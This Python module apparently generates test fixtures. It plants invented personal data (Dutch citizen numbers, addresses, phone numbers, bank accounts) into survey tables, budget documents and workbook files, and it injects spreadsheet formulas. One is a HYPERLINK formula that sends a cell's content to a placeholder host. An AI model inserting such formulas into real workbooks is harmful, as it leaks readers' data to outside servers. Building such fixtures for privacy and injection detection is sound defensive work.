"""Faults of privacy: persons, and how to reach them, in cells and files; formulas that run in the reader's program.

All persons, numbers and addresses are invented (`words`).
"""

import io
from collections.abc import Callable
from dataclasses import replace

from openpyxl import load_workbook
from openpyxl.comments import Comment

from dagster_project.simulation.plants.budgets import a_party, with_participants
from dagster_project.simulation.plants.catalogue import planter
from dagster_project.simulation.plants.concepts import some
from dagster_project.simulation.plants.hand import Hand
from dagster_project.simulation.plants.places import EDITION_2020, SURVEYS, beside
from dagster_project.simulation.plants.words import (
    bank_account,
    citizen_number,
    home_address,
    mail_address,
    person,
    telephone,
)
from dagster_project.simulation.sources.register import REGULATIONS
from dagster_project.simulation.writers.workbook import saved

SHARE = 0.1
"""Of the rows of a table: few, as such cells are."""


def _remarks(hand: Hand, remark: Callable[[], str]) -> None:
    for table in hand.tables(SURVEYS):
        for row in some(table.rows, SHARE, hand):
            table.set(row, "Toelichting", remark())


@planter("tables")
def citizen_numbers_in_remarks(hand: Hand) -> None:
    """Nine digits that pass the test."""
    _remarks(hand, lambda: f"Contactpersoon met BSN {citizen_number(hand.chance)}.")


@planter("tables")
def mail_addresses_in_remarks(hand: Hand) -> None:
    """Where to ask."""
    _remarks(hand, lambda: f"Vragen aan {mail_address(hand.chance)}.")


@planter("tables")
def telephone_numbers_in_remarks(hand: Hand) -> None:
    """Whom to call."""
    _remarks(hand, lambda: f"Bel eerst {telephone(hand.chance)}.")


@planter("tables")
def persons_in_remarks(hand: Hand) -> None:
    """Who was asked."""
    _remarks(hand, lambda: f"Nagevraagd bij {person(hand.chance)}, zij weet ervan.")


@planter("tables")
def bank_accounts_in_remarks(hand: Hand) -> None:
    """An account of somebody."""
    _remarks(hand, lambda: f"Bijdrage op {bank_account(hand.chance)} t.n.v. {person(hand.chance)}.")


@planter("tables")
def home_addresses_in_remarks(hand: Hand) -> None:
    """Where somebody lives."""
    _remarks(hand, lambda: f"Post naar {home_address(hand.chance)}, thuisadres van de secretaris.")


@planter("tables")
def days_of_birth_in_remarks(hand: Hand) -> None:
    """When somebody was born."""
    _remarks(hand, lambda: f"{person(hand.chance)}, geboren op {hand.chance.randrange(1, 29)} maart 1971.")


@planter("tables")
def person_filled_it_in(hand: Hand) -> None:
    """A name where a function is asked."""
    for table in hand.tables(SURVEYS):
        row = hand.first(row for row in table.above if row[0] == "Ingevuld door")
        row[1] = person(hand.chance)


@planter("tables")
def persons_in_edition(hand: Hand) -> None:
    """A chairman behind the purpose."""
    with hand.table(EDITION_2020) as table:
        for row in some(table.rows, SHARE, hand):
            table.set(row, "Doel", f"{table.get(row, 'Doel')} Voorzitter: mevrouw {person(hand.chance)}.")


@planter("tables")
def persons_in_register(hand: Hand) -> None:
    """A keeper with name and number in the register."""
    with hand.table(REGULATIONS) as table:
        for row in some(table.rows, SHARE, hand):
            table.set(row, "bronhouder", f"{person(hand.chance)} ({telephone(hand.chance)})")


@planter("documents")
def persons_as_participants(hand: Hand) -> None:
    """The aldermen in the place of their municipalities."""
    hand.parties(
        lambda party, document: with_participants(party, [*party.participants, f"wethouder {person(hand.chance)}"]),
        hand.largest()[:1],
    )


@planter("documents")
def person_as_party(hand: Hand) -> None:
    """A person who was hired, among the parties."""
    hand.add_parties(
        lambda document: [a_party(f"Adviesbureau {person(hand.chance)}", "Overeenkomst", [document.organisation])],
        hand.budgets()[:3],
    )


@planter("documents")
def contact_block_in_budget(hand: Hand) -> None:
    """Name, mail and telephone below the parties."""
    hand.rewrite(
        lambda document: replace(
            document,
            closing=(
                *document.closing,
                f"Contact: {person(hand.chance)}, {mail_address(hand.chance)}, {telephone(hand.chance)}.",
            ),
        ),
        hand.budgets()[:3],
    )


@planter("documents")
def citizen_numbers_in_purposes(hand: Hand) -> None:
    """A number of a citizen within a sentence of a budget."""
    hand.parties(
        lambda party, document: (
            replace(party, purpose=f"{party.purpose} Dossier BSN {citizen_number(hand.chance)}.")
            if party.purpose
            else party
        ),
        hand.budgets()[:1],
    )


@planter("tables")
def formulas_in_remarks(hand: Hand) -> None:
    """A formula that opens an address when the cell is read."""
    _remarks(hand, lambda: '=HYPERLINK("http://voorbeeld.invalid/?"&A1,"klik")')


@planter("tables")
def formulas_in_names(hand: Hand) -> None:
    """A formula in the place of a name in the register."""
    with hand.table(REGULATIONS) as table:
        for row in some(table.rows, SHARE, hand):
            table.set(row, "naam", f'=CONCATENATE("{table.get(row, "naam")}",A1)')


@planter("files")
def person_in_file_name(hand: Hand) -> None:
    """The name of the author in that of the file."""
    path = hand.first(hand.budgets())
    content = hand.files[path]
    hand.remove(path)
    hand.write(beside(path, person(hand.chance).replace(" ", "-")), content)


@planter("tables")
def person_in_origin(hand: Hand) -> None:
    """Who sent the edition."""
    with hand.table("editions/deliveries.csv") as table:
        table.set(hand.first(table.rows), "origin", f"Gemaild door {person(hand.chance)}, {mail_address(hand.chance)}")


def _book(hand: Hand, place: str, after: str, change: Callable) -> None:
    path = hand.first(hand.paths(SURVEYS))
    book = load_workbook(io.BytesIO(hand.files[path]))
    change(book)
    hand.files[path] = saved(book)
    hand.note(path, place, "", after)


@planter("files")
def persons_on_hidden_sheet(hand: Hand) -> None:
    """A list of contacts on a sheet that is not shown."""
    rows = [(person(hand.chance), telephone(hand.chance)) for _ in range(5)]

    def change(book) -> None:
        sheet = book.create_sheet("Contacten")
        sheet.sheet_state = "hidden"
        for row in rows:
            sheet.append(row)

    _book(hand, "sheet=Contacten", " | ".join(f"{name}, {number}" for name, number in rows), change)


@planter("files")
def person_in_cell_comment(hand: Hand) -> None:
    """A remark pinned to a cell."""
    text = f"Gebeld met {person(hand.chance)}, {telephone(hand.chance)}"

    def change(book) -> None:
        book.active["B6"].comment = Comment(text, "verzonnen")

    _book(hand, "cell=B6;comment", text, change)


@planter("files")
def person_in_properties(hand: Hand) -> None:
    """The author in the properties of the file."""
    name = person(hand.chance)

    def change(book) -> None:
        book.properties.creator = name

    _book(hand, "properties;creator", name, change)
